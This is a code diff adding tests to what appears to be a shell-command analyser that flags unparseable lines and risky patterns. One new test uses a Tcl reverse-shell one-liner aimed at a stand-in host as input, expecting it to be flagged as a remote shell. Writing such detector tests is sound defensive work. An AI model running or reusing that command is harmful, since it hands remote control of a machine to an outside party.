@@ -26,6 +26,12 @@ def test_its_finding_marks_the_lines_that_cannot_be_read() -> None:
     assert [(each.start, each.end) for each in found] == [(6, len(command))]
 
 
+def test_a_loop_that_no_shell_can_read_is_typed_text() -> None:
+    command = 'tclsh\nset s [socket a.example 1];while 1 { exec "sh $s" }'
+    assert readable_length(command) == len("tclsh\n")
+    assert {"unparseable", "remote-shell"} <= codes(command)
+
+
 def test_inside_a_quoted_script_the_same_holds() -> None:
     assert "unparseable" in codes("bash -c 'irb\nf = File.open(1)'")
 
@@ -37,6 +43,9 @@ def test_inside_a_quoted_script_the_same_holds() -> None:
         "ls\nfiles=(a b)\necho done",
         "ls\nif(test -f a); then ls; fi",
         "ls\ntime(sleep 1)",
+        "ls\nwhile true\ndo ls; done",
+        "ls; while true; do ls; done",
+        "ls\necho while 1",
         "cat <<EOF\nf(x)\nEOF",
         "ls\necho 'f(x)'",
         'ls\necho "f(x)"',
